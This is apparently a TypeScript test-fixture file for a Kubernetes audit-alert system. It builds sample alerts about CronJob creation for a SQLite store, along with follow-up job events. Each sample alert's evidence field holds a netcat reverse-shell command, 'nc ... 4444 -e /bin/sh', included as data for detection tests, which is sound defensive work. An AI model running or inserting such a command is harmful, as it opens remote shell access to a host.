import { join } from 'node:path';
import type { Alert, RelatedEvent, Severity } from '../../src/alert/types.js';
import { openSqliteStore, type SqliteStoreOptions } from '../../src/store/index.js';
import { tempFiles } from '../helpers/temp-files.js';

/** A store in a fresh temporary folder; the path is returned for reopening. */
export function tempStore(options: SqliteStoreOptions = {}) {
  const { dir } = tempFiles('cw-store-');
  const path = join(dir, 'alerts.db');
  return { dir, path, store: openSqliteStore(path, options) };
}

export function alert(
  n: number,
  opts: {
    time?: string | null;
    severity?: Severity;
    namespace?: string | null;
    rules?: string[];
    auditID?: string | null;
  } = {},
): Alert {
  const auditID = opts.auditID === undefined ? `audit-${n}` : opts.auditID;
  const rules = opts.rules ?? ['rule-a'];
  const severity = opts.severity ?? 'high';
  return {
    id: `cw-${n.toString(16).padStart(20, '0')}`,
    time:
      opts.time === undefined ? new Date(Date.UTC(2026, 10, 2, 9, 0, n)).toISOString() : opts.time,
    severity,
    riskScore: 70,
    title: `Alert ${n}`,
    summary: `dev-alice created CronJob ns/cj-${n}`,
    auditID,
    verb: 'create',
    stage: 'ResponseComplete',
    responseCode: 201,
    decision: 'allow',
    user: { username: 'dev-alice', groups: ['system:authenticated'] },
    sourceIPs: ['203.0.113.24'],
    userAgent: 'kubectl/v1.29.3',
    object: {
      apiGroup: 'batch',
      apiVersion: 'v1',
      resource: 'cronjobs',
      subresource: null,
      namespace: opts.namespace === undefined ? 'default' : opts.namespace,
      name: `cj-${n}`,
      kind: 'CronJob',
    },
    mitre: { tactics: ['Persistence'], techniques: ['T1053.007'] },
    matches: rules.map((ruleId) => ({
      ruleId,
      title: `Rule ${ruleId}`,
      level: severity,
      tags: ['attack.t1053.007'],
      evidence: [{ field: 'workload.commands', value: 'nc 10.13.37.10 4444 -e /bin/sh' }],
    })),
    related: [],
    relatedCount: 0,
    response: { suggested: [`kubectl -n default delete cronjob cj-${n}`] },
    source: { file: 'webhook', line: n },
  };
}

export function followUp(
  parent: number,
  k: number,
  auditID: string | null = `fu-${parent}-${k}`,
): RelatedEvent {
  return {
    auditID,
    time: new Date(Date.UTC(2026, 10, 2, 10, k)).toISOString(),
    verb: 'create',
    resource: 'jobs',
    namespace: 'default',
    name: `cj-${parent}-${29377980 + k}`,
    user: 'system:serviceaccount:kube-system:cronjob-controller',
    link: 'ownerReference',
    parent: `CronJob default/cj-${parent}`,
    ruleIds: [],
    source: { file: 'webhook', line: 1000 * parent + k },
  };
}

/** An alert as the engine hands it over, with follow-ups linked within the same batch. */
export function withRelated(a: Alert, related: RelatedEvent[], count = related.length): Alert {
  return { ...a, related, relatedCount: count };
}
